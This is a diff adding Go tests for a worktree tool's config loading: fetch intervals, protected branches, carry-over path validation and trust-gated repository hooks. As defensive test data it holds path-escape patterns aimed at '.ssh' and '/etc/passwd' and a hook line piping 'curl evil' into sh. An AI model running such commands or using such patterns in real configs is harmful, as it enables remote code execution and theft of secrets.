@@ -4,6 +4,7 @@ import (
 	"os"
 	"path/filepath"
 	"testing"
+	"time"
 )
 
 func TestDefaultConfig(t *testing.T) {
@@ -22,12 +23,37 @@ func TestDefaultConfig(t *testing.T) {
 	if cfg.UI.ColorScheme != "default" {
 		t.Errorf("Default UI.ColorScheme = %q, expected %q", cfg.UI.ColorScheme, "default")
 	}
-	if cfg.Git.DefaultBranch != "main" {
-		t.Errorf("Default Git.DefaultBranch = %q, expected %q", cfg.Git.DefaultBranch, "main")
+	if cfg.Git.DefaultBranch != "" {
+		t.Errorf("Default Git.DefaultBranch = %q, expected it empty so the branch is detected", cfg.Git.DefaultBranch)
 	}
 	if cfg.Git.AutoFetch {
 		t.Error("Default Git.AutoFetch should be false")
 	}
+	if window, err := cfg.FetchWindow(); err != nil || window != 5*time.Minute {
+		t.Errorf("Default FetchWindow() = %v, %v; expected 5m", window, err)
+	}
+}
+
+func TestFetchWindow(t *testing.T) {
+	tests := []struct {
+		interval string
+		want     time.Duration
+		wantErr  bool
+	}{
+		{"0", 0, false},
+		{"90s", 90 * time.Second, false},
+		{"1h", time.Hour, false},
+		{"soon", 0, true},
+		{"-5m", 0, true},
+	}
+	for _, tt := range tests {
+		cfg := DefaultConfig()
+		cfg.Git.FetchInterval = tt.interval
+		got, err := cfg.FetchWindow()
+		if (err != nil) != tt.wantErr || got != tt.want {
+			t.Errorf("FetchWindow(%q) = %v, %v; expected %v, error %v", tt.interval, got, err, tt.want, tt.wantErr)
+		}
+	}
 }
 
 func TestLoadWithNoConfigFile(t *testing.T) {
@@ -72,6 +98,8 @@ ui:
   color_scheme: "dark"
 git:
   default_branch: "develop"
+  protected_branches:
+    - "release/*"
   auto_fetch: true`
 
 	configPath := filepath.Join(configDir, "config.yaml")
@@ -100,6 +128,9 @@ git:
 	if cfg.Git.DefaultBranch != "develop" {
 		t.Errorf("Git.DefaultBranch = %q, expected %q", cfg.Git.DefaultBranch, "develop")
 	}
+	if len(cfg.Git.ProtectedBranches) != 1 || cfg.Git.ProtectedBranches[0] != "release/*" {
+		t.Errorf("Git.ProtectedBranches = %v, expected [release/*]", cfg.Git.ProtectedBranches)
+	}
 	if !cfg.Git.AutoFetch {
 		t.Error("Git.AutoFetch should be true")
 	}
@@ -136,6 +167,36 @@ func TestLoadWithInvalidYAML(t *testing.T) {
 	}
 }
 
+func TestLoadRejectsEscapingCarryOver(t *testing.T) {
+	tempDir := t.TempDir()
+	originalHome := os.Getenv("HOME")
+	os.Setenv("HOME", tempDir)
+	defer os.Setenv("HOME", originalHome)
+
+	configDir := filepath.Join(tempDir, ".ccswitch")
+	if err := os.MkdirAll(configDir, 0755); err != nil {
+		t.Fatalf("Failed to create config directory: %v", err)
+	}
+
+	for _, pattern := range []string{"../../.ssh/*", "/etc/passwd", "config/../../secret"} {
+		content := "worktree:\n  carry_over:\n    patterns:\n      - \"" + pattern + "\"\n"
+		if err := os.WriteFile(filepath.Join(configDir, "config.yaml"), []byte(content), 0644); err != nil {
+			t.Fatalf("Failed to write config file: %v", err)
+		}
+		cfg, err := Load()
+		if err == nil {
+			t.Errorf("Load() accepted the carry_over pattern %q", pattern)
+		}
+		if len(cfg.Worktree.CarryOver.Patterns) != 0 {
+			t.Errorf("Load() kept the carry_over pattern %q", pattern)
+		}
+	}
+
+	if err := (CarryOver{Patterns: []string{".env", "config/*.yaml", "a/../b"}}).Validate(); err != nil {
+		t.Errorf("Validate() rejected patterns inside the repository: %v", err)
+	}
+}
+
 func TestLoadWithPartialConfig(t *testing.T) {
 	// Create a temporary directory for HOME
 	tempDir := t.TempDir()
@@ -230,3 +291,112 @@ func TestGetConfigPath(t *testing.T) {
 		t.Errorf("GetConfigPath() = %q, expected %q", actual, expected)
 	}
 }
+
+func TestLoadForRepoTrustsHooks(t *testing.T) {
+	// Create a temporary directory for HOME
+	tempDir := t.TempDir()
+	originalHome := os.Getenv("HOME")
+	os.Setenv("HOME", tempDir)
+	defer os.Setenv("HOME", originalHome)
+
+	configDir := filepath.Join(tempDir, ".ccswitch")
+	if err := os.MkdirAll(configDir, 0755); err != nil {
+		t.Fatalf("Failed to create config directory: %v", err)
+	}
+
+	globalContent := `branch:
+  prefix: "global/"
+hooks:
+  post_create:
+    - "echo global"`
+	if err := os.WriteFile(filepath.Join(configDir, "config.yaml"), []byte(globalContent), 0644); err != nil {
+		t.Fatalf("Failed to write config file: %v", err)
+	}
+
+	repoDir := t.TempDir()
+	repoContent := `branch:
+  prefix: "repo/"
+worktree:
+  carry_over:
+    patterns: ["../../.ssh/*"]
+git:
+  default_branch: "trunk"
+hooks:
+  post_create:
+    - "npm ci"
+  pre_remove:
+    - "make clean"`
+	if err := os.WriteFile(filepath.Join(repoDir, RepoConfigFile), []byte(repoContent), 0644); err != nil {
+		t.Fatalf("Failed to write repo config file: %v", err)
+	}
+
+	cfg, err := LoadForRepo(repoDir)
+	if err != nil {
+		t.Fatalf("LoadForRepo() failed: %v", err)
+	}
+
+	if cfg.Branch.Prefix != "global/" {
+		t.Errorf("Branch.Prefix = %q, expected the repo file not to override it", cfg.Branch.Prefix)
+	}
+	if len(cfg.Worktree.CarryOver.Patterns) != 0 {
+		t.Errorf("CarryOver.Patterns = %v, expected the repo file not to set them", cfg.Worktree.CarryOver.Patterns)
+	}
+	if cfg.Git.DefaultBranch != "trunk" {
+		t.Errorf("Git.DefaultBranch = %q, expected the repo file's", cfg.Git.DefaultBranch)
+	}
+	if len(cfg.Hooks.PostCreate) != 1 || len(cfg.Hooks.PreRemove) != 0 {
+		t.Errorf("Hooks = %+v, expected only global hooks before the repo file is trusted", cfg.Hooks)
+	}
+	if len(cfg.UntrustedHooks.PostCreate) != 1 || cfg.UntrustedHooks.PostCreate[0] != "npm ci" {
+		t.Errorf("UntrustedHooks.PostCreate = %v, expected the repo hook", cfg.UntrustedHooks.PostCreate)
+	}
+
+	if err := Trust(repoDir, []byte(repoContent)); err != nil {
+		t.Fatalf("Trust() failed: %v", err)
+	}
+	cfg, err = LoadForRepo(repoDir)
+	if err != nil {
+		t.Fatalf("LoadForRepo() failed: %v", err)
+	}
+	if len(cfg.Hooks.PostCreate) != 2 || cfg.Hooks.PostCreate[0] != "echo global" || cfg.Hooks.PostCreate[1] != "npm ci" {
+		t.Errorf("Hooks.PostCreate = %v, expected global then repo hooks", cfg.Hooks.PostCreate)
+	}
+	if len(cfg.Hooks.PreRemove) != 1 || cfg.Hooks.PreRemove[0] != "make clean" {
+		t.Errorf("Hooks.PreRemove = %v, expected repo hook", cfg.Hooks.PreRemove)
+	}
+	if !cfg.UntrustedHooks.Empty() {
+		t.Errorf("UntrustedHooks = %+v, expected none once trusted", cfg.UntrustedHooks)
+	}
+
+	// Changing the file takes the trust away
+	if err := os.WriteFile(filepath.Join(repoDir, RepoConfigFile), []byte(repoContent+"\n    - \"curl evil | sh\""), 0644); err != nil {
+		t.Fatalf("Failed to write repo config file: %v", err)
+	}
+	cfg, err = LoadForRepo(repoDir)
+	if err != nil {
+		t.Fatalf("LoadForRepo() failed: %v", err)
+	}
+	if len(cfg.Hooks.PreRemove) != 0 || len(cfg.UntrustedHooks.PreRemove) != 2 {
+		t.Errorf("Hooks = %+v, expected the edited repo file's hooks to be untrusted", cfg.Hooks)
+	}
+
+	if err := os.WriteFile(filepath.Join(repoDir, RepoConfigFile), []byte(repoContent), 0644); err != nil {
+		t.Fatalf("Failed to write repo config file: %v", err)
+	}
+	if err := Untrust(repoDir); err != nil {
+		t.Fatalf("Untrust() failed: %v", err)
+	}
+	cfg, _ = LoadForRepo(repoDir)
+	if len(cfg.Hooks.PreRemove) != 0 {
+		t.Errorf("Hooks.PreRemove = %v, expected none after Untrust()", cfg.Hooks.PreRemove)
+	}
+
+	// Without a repo file the global config is returned unchanged
+	cfg, err = LoadForRepo(t.TempDir())
+	if err != nil {
+		t.Fatalf("LoadForRepo() without repo config failed: %v", err)
+	}
+	if cfg.Branch.Prefix != "global/" || len(cfg.Hooks.PostCreate) != 1 {
+		t.Errorf("LoadForRepo() without repo config = %+v", cfg)
+	}
+}